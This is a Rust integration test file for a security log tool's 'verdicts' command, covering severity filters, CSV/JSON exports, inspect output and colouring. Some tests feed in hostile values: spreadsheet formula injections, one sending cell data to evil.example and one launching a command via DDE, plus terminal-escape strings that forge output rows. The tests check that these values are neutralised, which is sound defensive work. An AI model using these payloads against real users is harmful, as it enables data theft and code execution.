//! `opensoc verdicts` and `opensoc verdicts inspect` as an admin runs them: the real binary on
//! a database filled through the library, without the model, so each test takes milliseconds.

use std::ffi::CStr;
use std::fs::OpenOptions;
use std::io::Read;
use std::os::fd::FromRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use opensoc_edge::store::sqlite::{NewVerdict, Span, Store};
use opensoc_edge::tail::identity::{Fingerprint, Identity};

#[path = "common/cli.rs"]
mod cli;
use cli::text;

/// The binary, with `NO_COLOR` unset too: the colour tests decide it themselves.
fn opensoc() -> Command {
    let mut c = cli::opensoc();
    c.env_remove("NO_COLOR");
    c
}

/// `opensoc ARGS --db DB`, stdout and stderr piped.
fn run(db: &Path, args: &[&str]) -> Output {
    opensoc()
        .args(args)
        .arg("--db")
        .arg(db)
        .output()
        .expect("run opensoc")
}

/// A verdict stored at `created_at`, its window the minute before.
fn verdict(created_at: i64, severity: &str) -> NewVerdict {
    NewVerdict {
        created_at,
        first_time: Some(created_at - 60),
        last_time: Some(created_at - 1),
        source: "/var/log/auth.log".to_string(),
        entity: Some("203.0.113.9".to_string()),
        records: 3,
        signature: format!("sig-{created_at}"),
        cached_from: None,
        threat_type: if severity == "LOW" {
            "No Threat Detected".to_string()
        } else {
            "Brute Force — SSH Password Spraying".to_string()
        },
        category: "Brute Force".to_string(),
        technique: "T1110".to_string(),
        tactic: "Credential Access".to_string(),
        severity: severity.to_string(),
        risk_score: 70,
        evidence: "3 failed logins for root".to_string(),
        impact: "An attacker who guesses the password owns the server".to_string(),
        recommendation: "1) Block the source IP 2) Disable SSH password authentication \
                         3) Install fail2ban"
            .to_string(),
        secondary: None,
        input: "Failed password for root from 203.0.113.9\n\
                Failed password for root from 203.0.113.9\n\
                Failed password for admin from 203.0.113.9"
            .to_string(),
    }
}

/// A database in a scratch directory holding `verdicts`; returns the directory (kept alive by
/// the caller), the database and the ids in the order given.
fn database(verdicts: &[NewVerdict]) -> (tempfile::TempDir, PathBuf, Vec<i64>) {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = dir.path().join("v.db");
    let mut store = Store::open(&db).expect("open");
    let ids = verdicts
        .iter()
        .map(|v| store.commit_window(v, &[], &[]).expect("commit"))
        .collect();
    (dir, db, ids)
}

/// The data rows of a table (the header dropped).
fn table_rows(stdout: &str) -> Vec<&str> {
    stdout
        .lines()
        .skip(1)
        .filter(|l| !l.starts_with('('))
        .collect()
}

/// The ids in a table's first column, top to bottom.
fn table_ids(stdout: &str) -> Vec<i64> {
    table_rows(stdout)
        .iter()
        .map(|l| {
            l.split_whitespace()
                .next()
                .and_then(|id| id.parse().ok())
                .unwrap_or_else(|| panic!("an id first in {l:?}"))
        })
        .collect()
}

/// `opensoc verdicts --help`.
fn verdicts_help() -> String {
    text(
        &opensoc()
            .args(["verdicts", "--help"])
            .output()
            .unwrap()
            .stdout,
    )
}

#[test]
fn table_says_on_stderr_when_the_limit_cuts_rows_and_exports_stay_clean() {
    let all: Vec<NewVerdict> = (1..=5).map(|i| verdict(1000 + i, "HIGH")).collect();
    let (_dir, db, _) = database(&all);

    let out = run(&db, &["verdicts", "--limit", "3"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(
        table_rows(&text(&out.stdout)).len(),
        3,
        "{}",
        text(&out.stdout)
    );
    assert_eq!(
        text(&out.stderr).trim(),
        "showing 3 of 5; --limit 0 shows all"
    );

    let out = run(&db, &["verdicts", "--limit", "0"]);
    assert_eq!(table_rows(&text(&out.stdout)).len(), 5);
    assert_eq!(text(&out.stderr), "", "nothing was left out");
    let out = run(&db, &["verdicts", "--limit", "5"]);
    assert_eq!(table_rows(&text(&out.stdout)).len(), 5);
    assert_eq!(
        text(&out.stderr),
        "",
        "a limit that cuts nothing says nothing"
    );

    // Machine-readable output keeps stdout and stderr clean; the limit is in --help.
    let out = run(&db, &["verdicts", "--format", "json", "--limit", "3"]);
    assert_eq!(text(&out.stdout).lines().count(), 3);
    assert_eq!(text(&out.stderr), "");
    let out = run(&db, &["verdicts", "--format", "csv", "--limit", "3"]);
    assert_eq!(text(&out.stdout).lines().count(), 4, "header and 3 rows");
    assert_eq!(text(&out.stderr), "");
    let help = verdicts_help();
    assert!(help.contains("[default: 100]"), "{help}");
    assert!(help.contains("their --limit is 100 too"), "{help}");
}

#[test]
fn table_defaults_to_medium_and_all_or_low_shows_everything() {
    let (_dir, db, ids) = database(&[
        verdict(1001, "LOW"),
        verdict(1002, "MEDIUM"),
        verdict(1003, "LOW"),
        verdict(1004, "HIGH"),
    ]);
    let (low1, medium, low2, high) = (ids[0], ids[1], ids[2], ids[3]);

    let out = run(&db, &["verdicts"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(table_ids(&text(&out.stdout)), [high, medium]);
    assert_eq!(
        text(&out.stderr).trim(),
        "2 LOW verdicts not shown; --all shows every severity"
    );
    for args in [
        &["verdicts", "--all"][..],
        &["verdicts", "--min-severity", "low"],
    ] {
        let out = run(&db, args);
        assert_eq!(
            table_ids(&text(&out.stdout)),
            [high, low2, medium, low1],
            "{args:?}"
        );
        assert_eq!(text(&out.stderr), "", "{args:?}");
    }
    // An explicit threshold hides on purpose: no note.
    let out = run(&db, &["verdicts", "--min-severity", "HIGH"]);
    assert_eq!(table_ids(&text(&out.stdout)), [high]);
    assert_eq!(text(&out.stderr), "");
    let out = run(&db, &["verdicts", "--all", "--min-severity", "HIGH"]);
    assert_eq!(out.status.code(), Some(2));

    // json and csv are exports: every severity unless asked.
    let out = run(&db, &["verdicts", "--format", "json"]);
    assert_eq!(text(&out.stdout).lines().count(), 4);
    let out = run(&db, &["verdicts", "--format", "csv"]);
    assert_eq!(text(&out.stdout).lines().count(), 5);
    let out = run(
        &db,
        &["verdicts", "--format", "json", "--min-severity", "MEDIUM"],
    );
    assert_eq!(text(&out.stdout).lines().count(), 2);
    let help = verdicts_help();
    assert!(
        help.contains("[default: MEDIUM for the table, every severity for json and csv]"),
        "{help}"
    );

    // report counts every severity, as before.
    let out = run(&db, &["report", "--json"]);
    let r: serde_json::Value = serde_json::from_str(text(&out.stdout).trim()).expect("json");
    assert_eq!(r["verdicts"], 4);
    assert_eq!(r["by_severity"]["LOW"], 2);

    // Only LOW verdicts: the table says none match, and why.
    let (_dir, db, _) = database(&[verdict(1001, "LOW")]);
    let out = run(&db, &["verdicts"]);
    assert!(
        text(&out.stdout).starts_with("id "),
        "{}",
        text(&out.stdout)
    );
    assert!(text(&out.stdout).contains("(no verdicts match)"));
    assert!(text(&out.stderr).contains("1 LOW verdict not shown"));
}

#[test]
fn table_shows_a_short_recommendation_and_csv_the_full_impact_and_recommendation() {
    let (_dir, db, ids) = database(&[verdict(1001, "HIGH")]);
    let out = run(&db, &["verdicts"]);
    let stdout = text(&out.stdout);
    let header = stdout.lines().next().unwrap_or_default();
    assert!(header.trim_end().ends_with("recommendation"), "{stdout}");
    let row = table_rows(&stdout)[0];
    assert!(row.ends_with("Block the source IP …"), "{stdout}");
    assert!(row.starts_with(&format!("{}  ", ids[0])), "{stdout}");
    assert!(
        !row.contains("fail2ban"),
        "the table shows the first step: {stdout}"
    );

    let out = run(&db, &["verdicts", "--format", "csv"]);
    let rows = opensoc_logs::csv::records(&text(&out.stdout));
    let col = |name: &str| {
        rows[0]
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("{name} in {:?}", rows[0]))
    };
    let v = verdict(1001, "HIGH");
    assert_eq!(rows[1][col("impact")], v.impact);
    assert_eq!(rows[1][col("recommendation")], v.recommendation);
    assert_eq!(
        rows[1][col("cached_from")],
        "",
        "older columns keep their place"
    );
    assert_eq!(col("evidence"), 12);
}

#[test]
fn csv_cells_that_start_a_formula_are_neutralised_in_the_new_columns() {
    let hostile = NewVerdict {
        impact: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".to_string(),
        recommendation: "+cmd|' /C calc'!A0".to_string(),
        evidence: "@SUM(1+1)".to_string(),
        ..verdict(1001, "HIGH")
    };
    let low = NewVerdict {
        recommendation: "-2+3".to_string(),
        ..verdict(1000, "LOW")
    };
    let (_dir, db, _) = database(&[low, hostile]);
    let out = run(&db, &["verdicts", "--format", "csv"]);
    let rows = opensoc_logs::csv::records(&text(&out.stdout));
    let col = |name: &str| rows[0].iter().position(|h| h == name).expect(name);
    assert_eq!(
        rows[1][col("impact")],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    );
    assert_eq!(rows[1][col("recommendation")], "'+cmd|' /C calc'!A0");
    assert_eq!(rows[1][col("evidence")], "'@SUM(1+1)");
    assert_eq!(rows[2][col("recommendation")], "'-2+3");
    for row in &rows[1..] {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {row:?}"
            );
        }
    }
}

#[test]
fn inspect_shows_every_field_and_the_window_lines() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = dir.path().join("v.db");
    let mut store = Store::open(&db).expect("open");
    let head = b"Failed password\n".to_vec();
    let file = store
        .add_file(
            Path::new("/var/log/auth.log.1"),
            "/var/log/auth.log",
            &Identity {
                dev: 7,
                ino: 1,
                size: head.len() as u64,
                fingerprint: Fingerprint::of(&head),
                head,
            },
        )
        .expect("file");
    let v = NewVerdict {
        secondary: Some("Reconnaissance — Port Scan".to_string()),
        ..verdict(1_795_737_600, "HIGH")
    };
    let span = Span {
        file,
        start: 120,
        end: 245,
    };
    let id = store.commit_window(&v, &[span], &[]).expect("commit");
    let copy = NewVerdict {
        cached_from: Some(id),
        ..verdict(1_795_737_700, "HIGH")
    };
    let copy_id = store.commit_window(&copy, &[], &[]).expect("commit");
    drop(store);

    let id_text = id.to_string();
    let out = run(&db, &["verdicts", "inspect", &id_text]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let s = text(&out.stdout);
    for expected in [
        format!("id:             {id}\n"),
        "log time:       2026-11-26 23:59:00Z to 2026-11-26 23:59:59Z\n".to_string(),
        "stored:         2026-11-27 00:00:00Z\n".to_string(),
        "source:         /var/log/auth.log\n".to_string(),
        "entity:         203.0.113.9\n".to_string(),
        "lines:          3\n".to_string(),
        "threat type:    Brute Force — SSH Password Spraying\n".to_string(),
        "category:       Brute Force\n".to_string(),
        "technique:      T1110 (Brute Force)\n".to_string(),
        "tactic:         Credential Access\n".to_string(),
        "severity:       HIGH\n".to_string(),
        "risk score:     70\n".to_string(),
        "also:           Reconnaissance — Port Scan\n".to_string(),
        format!("evidence:       {}\n", v.evidence),
        format!("impact:         {}\n", v.impact),
        format!("recommendation: {}\n", v.recommendation),
        "read from:      /var/log/auth.log.1 bytes 120..245\n".to_string(),
        "input, as the analyzer read it (3 log lines):\n  | Failed password for root from 203.0.113.9\n  | Failed password \
         for root from 203.0.113.9\n  | Failed password for admin from 203.0.113.9\n"
            .to_string(),
    ] {
        assert!(s.contains(&expected), "{expected:?} in\n{s}");
    }
    assert!(!s.contains("\x1b"), "no colour in a pipe: {s:?}");

    // --db before the subcommand, as an edited listing command line has it.
    let before = opensoc()
        .args(["verdicts", "--db"])
        .arg(&db)
        .args(["inspect", &id_text])
        .output()
        .expect("run");
    assert_eq!(text(&before.stdout), s);

    let out = run(&db, &["verdicts", "inspect", &copy_id.to_string()]);
    assert!(
        text(&out.stdout).contains(&format!("cached from:    verdict {id} ")),
        "{}",
        text(&out.stdout)
    );

    let out = run(&db, &["verdicts", "inspect", &id_text, "--json"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let stdout = text(&out.stdout);
    assert_eq!(stdout.lines().count(), 1, "one object: {stdout}");
    let j: serde_json::Value = serde_json::from_str(stdout.trim()).expect("json");
    assert_eq!(j["id"], id);
    assert_eq!(j["first_time"], "2026-11-26 23:59:00Z");
    assert_eq!(j["created_at"], "2026-11-27 00:00:00Z");
    assert_eq!(j["mitre_technique"], "T1110");
    assert_eq!(j["mitre_technique_name"], "Brute Force");
    assert_eq!(j["recommendation"], v.recommendation.as_str());
    assert_eq!(j["impact"], v.impact.as_str());
    assert_eq!(j["input"], v.input.as_str());
    assert_eq!(j["read_from"][0]["path"], "/var/log/auth.log.1");
    assert_eq!(j["read_from"][0]["start"], 120);
    for key in [
        "last_time",
        "source",
        "entity",
        "threat_type",
        "category",
        "mitre_tactic",
        "severity",
        "risk_score",
        "evidence",
        "lines",
    ] {
        assert!(!j[key].is_null(), "{key} in {j}");
    }
    // `--json` before the subcommand means the same.
    let out = run(&db, &["verdicts", "--json", "inspect", &id_text]);
    assert_eq!(text(&out.stdout), stdout);

    // A listing flag given to inspect is refused, not silently ignored.
    let out = run(&db, &["verdicts", "--since", "24h", "inspect", &id_text]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("--since"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn inspect_of_an_unknown_id_is_an_error_with_exit_2() {
    let (_dir, db, _) = database(&[verdict(1001, "HIGH")]);
    let out = run(&db, &["verdicts", "inspect", "4242"]);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(text(&out.stdout), "");
    let err = text(&out.stderr);
    assert!(err.contains("no verdict 4242 in"), "{err}");
    assert!(err.contains("v.db"), "{err}");
    let out = run(&db, &["verdicts", "inspect", "x"]);
    assert_eq!(out.status.code(), Some(2));
    let out = run(&db, &["verdicts", "inspect", "4242", "--json"]);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(text(&out.stdout), "");
}

#[test]
fn attacker_text_is_escaped_in_inspect_and_the_table() {
    let hostile = NewVerdict {
        entity: Some("203.0.113.9\x1b[2J\x1b]0;pwned\x07\nCRITICAL  forged row".to_string()),
        evidence: "user \x1b[31mroot\x1b[0m\nseverity:       LOW".to_string(),
        source: "/var/log/\x1b[8mauth.log".to_string(),
        recommendation: "1) \x1b[5mBlock\u{202e} 2) more".to_string(),
        input: "Failed password for \x1b]0;title\x07root\r\nsecond line \u{9b}31m".to_string(),
        ..verdict(1001, "HIGH")
    };
    let (_dir, db, ids) = database(&[hostile]);
    let id = ids[0].to_string();
    for args in [
        &["verdicts"][..],
        &["verdicts", "--all", "--limit", "0"],
        &["verdicts", "inspect", &id],
    ] {
        let out = run(&db, args);
        assert!(out.status.success(), "{}", text(&out.stderr));
        let s = text(&out.stdout);
        assert!(
            !s.contains('\x1b') && !s.contains('\x07'),
            "{args:?}: {s:?}"
        );
        assert!(
            !s.contains('\u{9b}') && !s.contains('\u{202e}'),
            "{args:?}: {s:?}"
        );
        assert!(s.contains("203.0.113.9\\x1b[2J\\x1b]0;pwned\\x07\\nCRITICAL  forged row"));
        assert!(
            !s.lines().any(|l| l.starts_with("CRITICAL")),
            "no forged line: {s}"
        );
    }
    let out = run(&db, &["verdicts"]);
    let s = text(&out.stdout);
    assert_eq!(s.lines().count(), 2, "header and one row: {s}");
    assert!(s.contains("/var/log/\\x1b[8mauth.log"), "{s}");
    assert!(s.contains("\\x1b[5mBlock\\u{202e} …"), "{s}");

    let out = run(&db, &["verdicts", "inspect", &id]);
    let s = text(&out.stdout);
    assert!(
        s.contains("evidence:       user \\x1b[31mroot\\x1b[0m\\nseverity:       LOW\n"),
        "{s}"
    );
    assert_eq!(
        s.lines().filter(|l| l.starts_with("severity:")).count(),
        1,
        "the evidence cannot add a field: {s}"
    );
    assert!(
        s.contains("  | Failed password for \\x1b]0;title\\x07root\n  | second line \\u{9b}31m\n"),
        "{s}"
    );
    // JSON escapes control characters itself.
    let out = run(&db, &["verdicts", "inspect", &id, "--json"]);
    let s = text(&out.stdout);
    assert!(!s.contains('\x1b'), "{s:?}");
    let j: serde_json::Value = serde_json::from_str(s.trim()).expect("json");
    assert!(j["entity"].as_str().unwrap_or_default().contains('\x1b'));
}

#[test]
fn the_table_lists_newest_first_as_its_help_says() {
    let (_dir, db, ids) = database(&[
        verdict(1001, "HIGH"),
        verdict(3001, "MEDIUM"),
        verdict(2001, "CRITICAL"),
    ]);
    let out = run(&db, &["verdicts"]);
    assert_eq!(table_ids(&text(&out.stdout)), [ids[1], ids[2], ids[0]]);
    // Every row's first cell is the id `inspect` takes.
    for id in table_ids(&text(&out.stdout)) {
        let out = run(&db, &["verdicts", "inspect", &id.to_string()]);
        assert!(out.status.success(), "{}", text(&out.stderr));
    }
    let json = text(&run(&db, &["verdicts", "--format", "json"]).stdout);
    let json_ids: Vec<i64> = json
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).expect("json")["id"].as_i64())
        .map(|id| id.expect("an id"))
        .collect();
    assert_eq!(json_ids, [ids[1], ids[2], ids[0]]);
    let help = verdicts_help();
    assert!(help.contains("newest first"), "{help}");
    assert!(!help.contains("newest last"), "{help}");
}

#[test]
fn json_flag_is_format_json() {
    let (_dir, db, _) = database(&[verdict(1001, "LOW"), verdict(1002, "HIGH")]);
    let flag = run(&db, &["verdicts", "--json"]);
    assert!(flag.status.success(), "{}", text(&flag.stderr));
    let format = run(&db, &["verdicts", "--format", "json"]);
    assert_eq!(text(&flag.stdout), text(&format.stdout));
    assert_eq!(text(&flag.stdout).lines().count(), 2);
    let both = run(&db, &["verdicts", "--json", "--format", "json"]);
    assert_eq!(text(&both.stdout), text(&format.stdout));
    let clash = run(&db, &["verdicts", "--json", "--format", "csv"]);
    assert_eq!(clash.status.code(), Some(2));
    assert!(
        text(&clash.stderr).contains("--json is --format json"),
        "{}",
        text(&clash.stderr)
    );
}

/// Runs `opensoc ARGS --db DB` with its stdout on a new pseudo-terminal and returns what it
/// wrote there.
fn run_on_terminal(db: &Path, args: &[&str], no_color: bool) -> String {
    // SAFETY: plain libc calls on a descriptor this function owns; `name` is NUL-terminated
    // by ptsname_r, which returned 0.
    let (master, name) = unsafe {
        let master = libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY);
        assert!(master >= 0, "posix_openpt");
        assert_eq!(libc::grantpt(master), 0, "grantpt");
        assert_eq!(libc::unlockpt(master), 0, "unlockpt");
        let mut buf = [0 as libc::c_char; 256];
        assert_eq!(libc::ptsname_r(master, buf.as_mut_ptr(), buf.len()), 0);
        let name = CStr::from_ptr(buf.as_ptr())
            .to_str()
            .expect("utf-8")
            .to_owned();
        (std::fs::File::from_raw_fd(master), name)
    };
    let slave = OpenOptions::new()
        .read(true)
        .write(true)
        .custom_flags(libc::O_NOCTTY)
        .open(&name)
        .expect("open the terminal");
    let mut cmd = opensoc();
    cmd.args(args)
        .arg("--db")
        .arg(db)
        .stdin(Stdio::null())
        .stdout(slave)
        .stderr(Stdio::null());
    if no_color {
        cmd.env("NO_COLOR", "1");
    }
    let mut child = cmd.spawn().expect("spawn");
    // Our copy of the terminal's end goes with the Command, so the read below ends (EIO)
    // when the child's does.
    drop(cmd);
    let mut master = master;
    let mut out = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        match master.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => out.extend_from_slice(&buf[..n]),
        }
    }
    assert!(child.wait().expect("wait").success());
    text(&out)
}

#[test]
fn severity_is_coloured_on_a_terminal_and_never_in_a_pipe() {
    let (_dir, db, ids) = database(&[verdict(1001, "CRITICAL"), verdict(1002, "MEDIUM")]);
    let piped = run(&db, &["verdicts"]);
    assert!(
        !text(&piped.stdout).contains('\x1b'),
        "{}",
        text(&piped.stdout)
    );
    let piped = run(&db, &["verdicts", "inspect", &ids[0].to_string()]);
    assert!(!text(&piped.stdout).contains('\x1b'));

    let tty = run_on_terminal(&db, &["verdicts"], false);
    assert!(tty.contains("\x1b[1;97;41mCRITICAL\x1b[0m"), "{tty:?}");
    assert!(tty.contains("\x1b[33mMEDIUM\x1b[0m"), "{tty:?}");
    // Only the severity is coloured: the rest of the row is as in a pipe.
    let plain = tty
        .replace("\x1b[1;97;41m", "")
        .replace("\x1b[33m", "")
        .replace("\x1b[0m", "")
        .replace("\r\n", "\n");
    assert_eq!(plain, text(&run(&db, &["verdicts"]).stdout));
    let tty = run_on_terminal(&db, &["verdicts", "inspect", &ids[0].to_string()], false);
    assert!(tty.contains("\x1b[1;97;41mCRITICAL\x1b[0m"), "{tty:?}");

    let no_color = run_on_terminal(&db, &["verdicts"], true);
    assert!(no_color.contains("CRITICAL"), "{no_color:?}");
    assert!(!no_color.contains('\x1b'), "{no_color:?}");
}
